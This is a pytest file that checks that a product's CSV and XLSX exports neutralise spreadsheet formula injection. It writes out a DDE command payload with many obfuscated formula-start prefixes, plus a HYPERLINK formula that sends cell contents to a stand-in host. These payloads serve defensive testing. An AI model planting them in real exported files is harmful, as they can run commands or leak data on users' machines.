"""F-31: no file that the product gives out holds a cell that a spreadsheet would run, whoever wrote what is in it."""

import csv
import io
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.utils import timezone
from tests.api.staff import appoint
from tests.conftest import Caller
from tests.world import World

from kehu.api.routes import api
from kehu.flows.imports.run_import import run_import
from kehu.flows.imports.start_import import start_import
from kehu.flows.imports.upload_file import upload_file
from kehu.govern import audit
from kehu.govern.models.fields import Field
from kehu.platform.scope import SYSTEM, acting

DDE = "cmd|' /C calc'!A0"
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "　＝",
    "＝",
    "＋",
    "－",
    "＠",
    "\u200b=",
    "\ufeff=",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
)
CELLS = [f"{start}{DDE}" for start in STARTS] + [
    '=HYPERLINK("http://x.example/?"&A1,"看")',
    "=1+1",
    '"=1+1"',
    "沈静仪\n=1+1",
]
GIVEN_OUT = {"get_import_errors", "get_import_template", "export_audit_events"}


def would_run(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula, after it has thrown away what nobody sees."""
    seen = "".join(c for c in cell if unicodedata.category(c) not in {"Cf", "Cc", "Zs"})
    return bool(seen) and unicodedata.normalize("NFKC", seen)[0] in "=+-@"


def cells_of(content: bytes) -> list[str]:
    """Return every cell of a CSV."""
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def read(answer: Any) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else bytes(answer.content)


def test_every_route_that_gives_out_a_table_is_tested_here() -> None:
    paths = api.get_openapi_schema()["paths"].values()
    operations = [operation for path in paths for operation in path.values()]
    found = {o["operationId"] for o in operations if "text/csv" in str(o["responses"])}

    assert found == GIVEN_OUT


@pytest.mark.parametrize("cell", CELLS, ids=ascii)
def test_refused_rows_come_back_as_text(
    world: World, call: Callable[..., Caller], tmp_path: Path, cell: str
) -> None:
    path = tmp_path / "客户.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(
            [["客户号", "姓名", "手机", cell], ["1", "沈静仪", cell, cell], [cell, cell, "x", cell]]
        )
    with acting(SYSTEM):
        job = start_import(
            upload=upload_file(path), source=world.core, mapping={"columns": {"姓名": "name", "手机": "mobile"}, "key": "客户号"},
            actor_id=None, now=timezone.now(),
        )  # fmt: skip
    run_import(job.pk)

    content = read(call(world.steward).get(f"/imports/{job.pk}/errors"))

    assert len(content.splitlines()) >= 2
    assert [found for found in cells_of(content) if would_run(found)] == []


@pytest.mark.parametrize("cell", CELLS, ids=ascii)
def test_the_trail_goes_out_as_text(world: World, call: Callable[..., Caller], cell: str) -> None:
    auditor = appoint(world, "audit_admin", name="the-auditor")
    type(auditor).objects.filter(pk=auditor.pk).update(name=cell.replace("\0", ""))
    audit.record(
        action=cell.replace("\0", "")[:64], actor_id=auditor.pk, now=timezone.now(), object_kind="import", reason=cell,
        fields=[cell.replace("\0", "")], details={"kind": cell.replace("\0", "")},
    )  # fmt: skip

    content = read(call(auditor).get("/audit/export"))

    assert DDE[:3] in content.decode() or "1+1" in content.decode() or "HYPERLINK" in content.decode()
    assert [found for found in cells_of(content) if would_run(found)] == []


@pytest.mark.parametrize("cell", CELLS, ids=ascii)
def test_a_template_names_its_columns_as_text(world: World, call: Callable[..., Caller], cell: str) -> None:
    label = cell.replace("\0", "")[:60]
    Field.objects.filter(key="email").update(label_zh=label, updated_at=timezone.now())
    steward = call(world.steward)

    content = read(steward.get("/import-template"))
    book = read(steward.get("/import-template", form="xlsx"))

    assert [found for found in cells_of(content) if would_run(found)] == []
    sheets = openpyxl.load_workbook(io.BytesIO(book)).worksheets
    assert {c.data_type for sheet in sheets for row in sheet.iter_rows() for c in row} <= {"s", "n"}
